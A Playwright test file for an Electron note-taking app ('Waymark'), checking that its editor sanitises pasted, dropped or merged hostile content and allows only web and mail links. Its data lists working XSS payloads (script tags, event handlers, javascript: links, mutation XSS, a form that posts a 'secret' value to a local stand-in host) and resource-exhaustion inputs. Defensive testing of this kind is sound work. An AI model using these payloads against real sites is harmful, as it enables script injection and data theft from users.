import type { Locator, Page } from '@playwright/test';
import * as Y from 'yjs';
import type { WaymarkApp } from '../fixtures/waymark-app.ts';
import { openFile, saveFile } from '../journeys/exchange.ts';
import { paste } from '../journeys/paste.ts';
import {
  addPoints,
  agenda,
  begin,
  makeSession,
  messages,
  notes,
  openPoint,
  row,
} from '../journeys/people.ts';
import { everythingIn, notesOf, sessionIn, withSession } from './hostile-file.ts';
import { recordOpenedLinks } from './opened-links.ts';
import { expect, observationMs, test, type Outside } from './outside.ts';
import { setTimeout as pause } from 'node:timers/promises';

/** What HTML can try. Every case says *words*, which stay; and would tell by `ran` or by coming outside. */
const hostileHtml = (outside: string): Readonly<Record<string, string>> => ({
  'a script': `<script>window.ran = 'script'</script>words`,
  'a script from elsewhere': `<script src="${outside}/x.js"></script>words`,
  'an event of a picture': `<img src=x onerror="window.ran = 'onerror'">words`,
  'events of anything': `<p onclick="ran=1" onmouseover="window.ran='over'" onfocus="window.ran=1" tabindex=0 autofocus>words</p>`,
  'a picture from elsewhere': `<p>words<img src="${outside}/x.png" srcset="${outside}/y.png 2x"></p>`,
  'a picture as a background': `<p style="background: url(${outside}/x.png)">words</p>`,
  'a style from elsewhere': `<link rel="stylesheet" href="${outside}/x.css"><style>@import url(${outside}/y.css); * { background: url(${outside}/z.png) }</style>words`,
  'a font from elsewhere': `<style>@font-face { font-family: x; src: url(${outside}/x.woff2) } * { font-family: x }</style>words`,
  'a frame': `<iframe src="${outside}/frame" srcdoc="<script>parent.ran = 'srcdoc'</script>"></iframe>words`,
  'an object': `<object data="${outside}/x"></object><embed src="${outside}/y">words`,
  'a drawing': `<svg onload="window.ran = 'svg'"><script>window.ran = 'svg script'</script><image href="${outside}/x.png"/><use href="${outside}/x.svg#a"/></svg>words`,
  'a formula': `<math><mtext><table><mglyph><style><img src=x onerror="window.ran='mutated'"></style></mglyph></table></mtext></math>words`,
  'a film': `<video src="${outside}/x.mp4" poster="${outside}/x.png" autoplay></video><audio src="${outside}/x.mp3" autoplay></audio>words`,
  'another base': `<base href="${outside}/">words<a href="relative">more</a>`,
  'another page': `<meta http-equiv="refresh" content="0; url=${outside}/">words`,
  'a form': `<form action="${outside}/" method="post"><input name="x" value="secret"><button>Send</button></form>words<script>document.forms[0].submit()</script>`,
  'a preload': `<link rel="preload" as="image" href="${outside}/x.png"><link rel="prefetch" href="${outside}/y"><link rel="dns-prefetch" href="${outside}">words`,
  'links to anything': `<a href="javascript:window.ran='link'">words</a> <a href="data:text/html,<script>1</script>">words</a> <a href="file:///etc/passwd">words</a> <a href="vbscript:x">words</a> <a href=" javascript:window.ran=1">words</a> <a href="java&#10;script:window.ran=1">words</a>`,
  'a link with a ping': `<a href="https://waymark.invalid/" ping="${outside}/ping" target="_top" onclick="window.ran='click'">words</a>`,
  'a template': `<template><script>window.ran='template'</script></template>words`,
  'a custom element': `<x-y is="x" onanimationstart="window.ran=1" style="animation: settle 1s">words</x-y>`,
  'what covers the page': `<div class="veil floating fixed inset-0" style="position:fixed;inset:0;z-index:99999">words</div>`,
  'classes in code': `<pre><code class="language-x veil fixed inset-0">words</code></pre>`,
  'a slice of an editor': `<p data-pm-slice='0 0 ["image",{"src":"${outside}/x.png"}]'>words</p>`,
  'a list that says it is ticked': `<ul data-type="taskList"><li data-type="taskItem" data-checked="true" onclick="window.ran=1"><div>words</div></li></ul>`,
});

const allowedTags = new Set([
  'P',
  'BR',
  'H3',
  'H4',
  'UL',
  'OL',
  'LI',
  'DIV',
  'INPUT',
  'BLOCKQUOTE',
  'PRE',
  'CODE',
  'STRONG',
  'EM',
  'S',
  'U',
  'A',
  'SPAN',
  'HR',
]);
const allowedAttributes = new Set([
  'class',
  'dir',
  'title',
  'href',
  'rel',
  'start',
  'type',
  'style',
  'tabindex',
  'contenteditable',
  'spellcheck',
  'aria-label',
  'data-level',
  'data-type',
  'data-checked',
  'data-refused-link',
  'draggable',
  'checked',
]);
const allowedClasses =
  /^(?:bar-(?:learner|mentor)|check-(?:list|box)|name-(?:learner|mentor)|is-new|arrived-\w+|ProseMirror-\w+)$/u;

/** What stands in drawn notes that we do not draw. */
async function strangeIn(field: Locator): Promise<readonly string[]> {
  const parts = await field.evaluate((element) =>
    [...element.querySelectorAll('*')].map((part) => ({
      tag: part.tagName,
      classes: [...part.classList],
      attributes: part.getAttributeNames().map((name) => [name, part.getAttribute(name) ?? ''] as const),
    })),
  );
  return parts.flatMap(({ tag, classes, attributes }) => [
    ...(allowedTags.has(tag) ? [] : [tag]),
    ...classes.filter((name) => !allowedClasses.test(name)),
    ...attributes
      .filter(([name, value]) => {
        if (name === 'style') return !/^(?:padding-inline-start: \d+rem;)?$/u.test(value);
        if (name === 'href') return !/^(?:https?|mailto):/u.test(value);
        return !allowedAttributes.has(name);
      })
      .map(([name, value]) => `${tag} ${name}=${value.slice(0, 80)}`),
  ]);
}

const hasRun = (page: Page): Promise<unknown> =>
  page.evaluate(() => (window as unknown as { readonly ran?: unknown }).ran);

async function expectNothingHappened(page: Page, outside: Outside): Promise<void> {
  await pause(observationMs);
  expect(await hasRun(page)).toBeUndefined();
  expect([outside.connections(), outside.packets()]).toEqual([0, 0]);
}

/** The page answers, and somebody can go on writing in it. */
async function expectUsable(page: Page, title: string): Promise<void> {
  await openPoint(page, title);
  await notes(page).click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type(' still writing');
  await expect(notes(page)).toContainText('still writing');
  await page.keyboard.press('Escape');
  await expect(row(page, title)).toBeFocused();
}

async function withNotes(app: WaymarkApp, ...titles: readonly string[]): Promise<void> {
  await begin(app.page, 'Maya', 'Sam');
  await makeSession(app.page, 'Session');
  await addPoints(app.page, ...titles);
}

test('what is pasted or dropped runs nothing and reaches nobody, and its words stay', async ({
  app,
  outsides,
}) => {
  test.slow();
  const { page } = app;
  const outside = await outsides.open();
  await withNotes(app, 'one', 'two');
  await openPoint(page, 'one');
  await notes(page).click();
  const cases = hostileHtml(`http://127.0.0.1:${String(outside.tcpPort)}`);
  for (const [what, html] of Object.entries(cases)) {
    for (const how of ['paste', 'drop'] as const) {
      await page.keyboard.press('Control+a');
      await page.keyboard.press('Delete');
      await paste(notes(page), { html }, how);
      await expect(notes(page), what).toContainText('words');
      expect(await strangeIn(notes(page)), what).toEqual([]);
    }
    // As Markdown, and as words that somebody types.
    await page.keyboard.press('Control+a');
    await page.keyboard.press('Delete');
    await paste(notes(page), { text: `# Heading\n\n${html}\n\n![x](${html.slice(0, 20)})` });
    await expect(notes(page), what).toContainText('Heading');
    await expect(notes(page), what).toContainText('words');
    expect(await strangeIn(notes(page)), `${what}, as Markdown`).toEqual([]);
  }
  await page.keyboard.press('Control+a');
  await page.keyboard.press('Delete');
  await page.keyboard.insertText(Object.values(cases).join(' '));
  expect(await strangeIn(notes(page))).toEqual([]);
  await page.keyboard.press('Escape');
  await page.getByLabel('Add a point').fill(cases['events of anything'] ?? '');
  await page.getByLabel('Add a point').press('Enter');
  await expect(agenda(page)).toContainText('onmouseover');
  await expectNothingHappened(page, outside);
  await expectUsable(page, 'two');
});

test('a hundred thousand tags, one in the other, are flattened or refused, and the page answers', async ({
  app,
}) => {
  const { page } = app;
  await withNotes(app, 'one', 'two');
  await openPoint(page, 'one');
  await notes(page).click();
  for (const tag of ['blockquote', 'ul><li', 'b', 'div', 'table><tr><td']) {
    await page.keyboard.press('Control+a');
    await page.keyboard.press('Delete');
    await paste(notes(page), { html: `${`<${tag}>`.repeat(100_000)}words` });
    await expect(messages(page).getByText('That is too much for notes at once').last()).toBeVisible();
    await paste(notes(page), { html: `${`<${tag}>`.repeat(Math.floor(290_000 / (tag.length + 2)))}words` });
    await expect(notes(page)).toContainText('words');
    const depth = await notes(page).evaluate((element) => {
      const depthOf = (part: Element): number => 1 + Math.max(0, ...[...part.children].map(depthOf));
      return depthOf(element);
    });
    expect(depth, tag).toBeLessThan(80);
  }
  await page.keyboard.press('Escape');
  await expectUsable(page, 'two');
});

const element = (
  name: string,
  children: readonly (Y.XmlElement | Y.XmlText)[] = [],
  attributes: Readonly<Record<string, unknown>> = {},
): Y.XmlElement => {
  const made = new Y.XmlElement(name);
  made.insert(0, [...children]);
  for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value as string);
  return made;
};
const words = (text: string, marks: Readonly<Record<string, unknown>> = {}): Y.XmlText => {
  const made = new Y.XmlText();
  made.applyDelta([{ insert: text, attributes: marks }], { sanitize: false });
  return made;
};
const line = (text: string): Y.XmlElement => element('paragraph', [words(text)]);

/** What a document can hold that no editor of ours has written: by the title of the point in whose notes it stands. */
const hostileNotes = (outside: string): Readonly<Record<string, (notes: Y.XmlFragment) => void>> => ({
  'unknown blocks': (notes) => {
    notes.insert(1, [
      element('table', [element('row', [line('a cell')])]),
      element('image', [], { src: `${outside}/x.png`, onerror: 'window.ran = 1' }),
    ]);
  },
  'a script': (notes) => {
    notes.insert(1, [
      element('script', [words(`window.ran = 'element'`)], { src: `${outside}/x.js` }),
      element('iframe', [], { src: `${outside}/frame` }),
      element('svg', [element('use', [], { href: `${outside}/x.svg#a` })], { onload: 'window.ran = 1' }),
      element('style', [words(`* { background: url(${outside}/x.png) }`)]),
    ]);
  },
  'names from JavaScript': (notes) => {
    notes.insert(1, [element('__proto__', [words('proto')]), element('constructor'), element('toString')]);
  },
  'events and styles': (notes) => {
    notes.insert(1, [
      element('paragraph', [words('with events')], {
        onclick: 'window.ran = 1',
        onmouseover: 'window.ran = 1',
        style: `background: url(${outside}/x.png); position: fixed; inset: 0`,
        class: 'veil fixed inset-0',
      }),
    ]);
  },
  'unknown marks': (notes) => {
    notes.insert(1, [
      element('paragraph', [words('marked', { font: { face: `x; background: url(${outside}/x.png)` } })]),
      element('paragraph', [words('bold', { bold: { style: 'x' } })]),
    ]);
  },
  'things in words': (notes) => {
    const text = new Y.XmlText('around');
    text.insertEmbed(3, { image: `${outside}/x.png` });
    notes.insert(1, [
      element('paragraph', [text]),
      new Y.XmlText('loose words') as never,
      new Y.Map() as never,
    ]);
  },
  'blocks where none may be': (notes) => {
    notes.insert(1, [
      element('paragraph', [line('in a paragraph')]),
      element('bulletList', [line('without an item')]),
      element('listItem', [line('without a list')]),
    ]);
  },
  'ten thousand levels': (notes) => {
    let at: Y.XmlFragment = notes;
    for (let level = 0; level < 10_000; level += 1) {
      const made = element(level % 2 === 0 ? 'blockquote' : 'bulletList');
      at.insert(at === notes ? 1 : 0, [made]);
      at = made;
    }
    at.insert(0, [line('innermost')]);
  },
  'huge attributes': (notes) => {
    notes.insert(1, [
      element('orderedList', [element('listItem', [line('counted')])], { start: 'x'.repeat(2_000_000) }),
      element('codeBlock', [words('code')], { language: 'x fixed inset-0 '.repeat(100_000) }),
    ]);
  },
  'a megabyte in one paragraph': (notes) => {
    notes.insert(1, [line('lorem ipsum '.repeat(87_382))]);
  },
  'fifty thousand paragraphs': (notes) => {
    notes.insert(
      1,
      Array.from({ length: 50_000 }, (_, number) => line(`line ${String(number)} ${'x'.repeat(20)}`)),
    );
  },
});

/** Notes that can only be read. */
const reading = (page: Page) => page.getByRole('document', { name: /^Notes on/u });

/** What each of them is told as, for the reader. */
const told = /can only be read. Nothing is lost\./u;

test('a document that came past the editor is shown as far as it can be, runs nothing, and loses nothing', async ({
  app,
  outsides,
}) => {
  test.slow();
  const { page } = app;
  const outside = await outsides.open();
  const cases = hostileNotes(`http://127.0.0.1:${String(outside.tcpPort)}`);
  await withNotes(app, ...Object.keys(cases), 'sound');
  for (const title of [...Object.keys(cases), 'sound']) {
    await openPoint(page, title);
    await notes(page).click();
    await page.keyboard.type('my own words');
    await page.keyboard.press('Escape');
  }
  const path = await withSession(await saveFile(app, 'Sam', 'mine.waymark'), 'hostile.waymark', (session) => {
    for (const [title, make] of Object.entries(cases)) make(notesOf(session, title));
    const titles = [...session.getMap('points').values()].flatMap((point) =>
      point instanceof Y.Map ? [point.get('title')] : [],
    );
    for (const title of titles)
      if (title instanceof Y.Text && title.toJSON() === 'sound')
        title.applyDelta([{ retain: 5, attributes: { onclick: 'x' } }]);
  });
  const hostile = await sessionIn(path);
  await openFile(app, path);
  await expect(page.getByText('Sam’s changes were merged', { exact: false })).toBeVisible({
    timeout: 30_000,
  });

  for (const title of Object.keys(cases)) {
    await row(page, title).click();
    await expect(reading(page), title).toContainText(told, { timeout: 20_000 });
    await expect(reading(page), title).toContainText('my own words');
    await expect(notes(page)).toHaveCount(0);
    expect(
      (await strangeIn(reading(page))).filter((strange) => !/notes-|^SECTION$/u.test(strange)),
      title,
    ).toEqual([]);
    // The point itself can be worked on as ever.
    await expect(page.getByRole('article').getByRole('button', { name: 'Discussed' })).toBeVisible();
    await page.keyboard.press('Escape');
    await expect(row(page, title)).toBeFocused();
  }
  await row(page, 'unknown blocks').click();
  await expect(reading(page)).toContainText('Something this Waymark does not know');
  await expect(reading(page)).toContainText('a cell');
  await page.keyboard.press('Escape');
  await row(page, 'fifty thousand paragraphs').click();
  await page.getByRole('button', { name: /^Show more/u }).click();
  await expect(reading(page)).toContainText('line 500 ');
  await page.keyboard.press('Escape');
  await expectNothingHappened(page, outside);
  await expectUsable(page, 'sound');
  await app.relaunch();
  await app.page.getByRole('button', { name: 'Open the agenda' }).click();
  await expect(app.page.getByLabel('Add a point')).toBeVisible();
  await row(app.page, 'a script').click();
  await expect(reading(app.page)).toContainText(told);
  await app.page.keyboard.press('Escape');

  const after = await sessionIn(await saveFile(app, 'Sam', 'after.waymark'));
  for (const title of Object.keys(cases))
    expect(everythingIn(notesOf(after, title)), title).toEqual(everythingIn(notesOf(hostile, title)));
});

test('what comes while somebody writes in the same notes takes the editor away, and nothing else', async ({
  app,
}) => {
  const { page } = app;
  await withNotes(app, 'one', 'two');
  await openPoint(page, 'one');
  await notes(page).click();
  await page.keyboard.type('my own words');
  const path = await withSession(await saveFile(app, 'Sam', 'mine.waymark'), 'hostile.waymark', (session) => {
    notesOf(session, 'one').insert(1, [element('widget', [words('inside it')], { onclick: 'x' })]);
  });
  await notes(page).click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type(', and more');
  await openFile(app, path);
  await expect(reading(page)).toContainText(told);
  for (const text of ['my own words, and more', 'Something this Waymark does not know', 'inside it'])
    await expect(reading(page)).toContainText(text);
  await page.keyboard.type('typed at nothing');
  const after = await sessionIn(await saveFile(app, 'Sam', 'after.waymark'));
  expect(everythingIn(notesOf(after, 'one'))).toEqual([
    '<paragraph {}>',
    '[{"insert":"my own words, and more"}]',
    '<widget {"onclick":"x"}>',
    '[{"insert":"inside it"}]',
  ]);
  // Once it is taken out again, on the other side, the notes can be written in as before.
  const mended = await withSession(
    await saveFile(app, 'Sam', 'again.waymark'),
    'mended.waymark',
    (session) => {
      notesOf(session, 'one').delete(1, 1);
    },
  );
  await openFile(app, mended);
  await expect(notes(page)).toHaveText('my own words, and more');
  await notes(page).click();
  await page.keyboard.press('Control+End');
  await page.keyboard.type('!');
  await expect(notes(page)).toHaveText('my own words, and more!');
});

test('a link of a document leads nowhere but through the allowlist', async ({ app, outsides }) => {
  const { page } = app;
  const outside = await outsides.open();
  const opened = await recordOpenedLinks(app.electron);
  await withNotes(app, 'one', 'two');
  const refused = [
    'javascript:window.ran=1',
    'JAVASCRIPT:window.ran=1',
    'java\nscript:window.ran=1',
    ' javascript:window.ran=1',
    'data:text/html,<script>window.ran=1</script>',
    'file:///etc/passwd',
    'app://waymark/index.html',
    'waymark://mentorship/x',
    'smb://server/share',
    'https://user:password@example.org',
    '',
    '/etc/passwd',
    '#',
  ];
  const attributes = { target: '_blank', rel: 'opener', class: 'veil fixed inset-0', title: 'Free' };
  const path = await withSession(await saveFile(app, 'Sam', 'mine.waymark'), 'links.waymark', (session) => {
    notesOf(session, 'one').insert(0, [
      ...refused.map((href, number) =>
        element('paragraph', [words(`link ${String(number)}`, { link: { href, ...attributes } })]),
      ),
      element('paragraph', [words('a good one', { link: { href: 'HTTPS://example.org/a', ...attributes } })]),
    ]);
  });
  await openFile(app, path);
  await expect(page.getByText('Sam’s changes were merged', { exact: false })).toBeVisible();
  await openPoint(page, 'one');
  await expect(notes(page).locator('a')).toHaveCount(1);
  await expect(notes(page).locator('[data-refused-link]')).toHaveCount(refused.length);
  expect(await strangeIn(notes(page))).toEqual([]);
  const home = page.url();
  for (const number of refused.keys()) {
    const link = notes(page).getByText(`link ${String(number)}`, { exact: true });
    await link.click({ modifiers: ['Control'] });
    await link.click({ button: 'middle' });
    await expect(messages(page).getByText('Waymark opens only web and mail addresses').last()).toBeVisible();
  }
  expect(await opened()).toEqual([]);
  await notes(page)
    .getByText('a good one')
    .click({ modifiers: ['Control'] });
  await expect.poll(opened).toEqual(['https://example.org/a']);
  expect(page.url()).toBe(home);
  expect(app.electron.windows()).toHaveLength(1);
  await expectNothingHappened(page, outside);
  // Looking has changed nothing.
  const after = await sessionIn(await saveFile(app, 'Sam', 'after.waymark'));
  expect(everythingIn(notesOf(after, 'one'))).toEqual(everythingIn(notesOf(await sessionIn(path), 'one')));
});
